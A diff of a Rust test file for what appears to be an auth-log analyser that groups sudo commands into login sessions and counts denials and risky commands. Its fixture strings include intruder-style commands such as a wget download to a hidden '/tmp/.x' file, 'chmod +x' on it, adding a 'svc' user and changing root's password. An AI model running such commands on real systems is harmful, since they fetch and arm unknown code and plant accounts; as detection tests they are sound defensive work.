@@ -46,19 +46,24 @@ fn two_sessions_of_one_user_on_two_terminals_keep_their_own_commands() {
     let (second, second_commands) = commands_of(&obs, "2050");
     assert_eq!(
         second_commands,
-        ["sudo(denied) /usr/sbin/useradd -m svc", "sudo(denied) /bin/chmod +x /tmp/.x", "su root"]
+        [
+            "sudo(denied: command not allowed) /usr/sbin/useradd -m svc",
+            "sudo(denied: 3 incorrect password attempts) /bin/bash",
+            "sudo(denied: command not allowed) /bin/chmod +x /tmp/.x",
+            "su root"
+        ]
     );
     assert_eq!(tty(second), Some("pts/1"));
     assert_eq!(second.fingerprint.risky_commands, Some(1), "chmod +x");
     assert_eq!(first.fingerprint.risky_commands, Some(0));
     // `grep -c 'COMMAND=' two-terminals.log` = 6, of which 1 is "3 incorrect password
-    // attempts" (three failures, no command), plus su's one PAM session line by alice;
-    // every one names its terminal.
-    assert_eq!(stats.commands, 6 - 1 + 1);
+    // attempts" (three failures, and a refused `/bin/bash` in the session of its
+    // terminal), plus su's one PAM session line by alice; every one names its terminal.
+    assert_eq!(stats.commands, 6 + 1);
     assert_eq!(stats.failed_logins, 3);
-    assert_eq!((stats.commands_by_tty, stats.commands_guessed, stats.commands_outside_sessions), (6, 0, 0));
-    // `grep -cE 'not allowed|NOT in sudoers'` = 2.
-    assert_eq!(stats.privilege_refusals, 2);
+    assert_eq!((stats.commands_by_tty, stats.commands_guessed, stats.commands_outside_sessions), (7, 0, 0));
+    // `grep -cE 'not allowed|NOT in sudoers|incorrect password'` = 3.
+    assert_eq!(stats.privilege_refusals, 3);
 }
 
 #[test]
@@ -70,14 +75,21 @@ fn lines_out_of_time_order_go_to_the_session_open_at_their_time() {
     let (first, first_commands) = commands_of(&obs, "2001");
     assert_eq!(
         first_commands,
-        ["/usr/bin/apt-get update", "sudo(denied) /usr/bin/passwd root", "/bin/systemctl restart nginx"]
+        [
+            "/usr/bin/apt-get update",
+            "sudo(denied: user NOT in sudoers) /usr/bin/passwd root",
+            "/bin/systemctl restart nginx"
+        ]
     );
     assert_eq!(tty(first), Some("pts/0"));
     // pts/1 at 09:35: 2001 is on pts/0, so the other session open then, whose terminal
     // was not known, is on pts/1. The 09:45 line has no terminal and both were open:
     // nothing tells them apart, so it goes to the newest and is counted as a guess.
     let (second, second_commands) = commands_of(&obs, "2050");
-    assert_eq!(second_commands, ["sudo(denied) /usr/bin/wget http://203.0.113.9/x -O /tmp/.x", "/usr/bin/id"]);
+    assert_eq!(
+        second_commands,
+        ["sudo(denied: command not allowed) /usr/bin/wget http://203.0.113.9/x -O /tmp/.x", "/usr/bin/id"]
+    );
     assert_eq!(tty(second), Some("pts/1"));
     assert_eq!((stats.commands, stats.commands_by_tty, stats.commands_guessed), (5, 3, 1));
     assert_eq!(stats.privilege_refusals, 2);
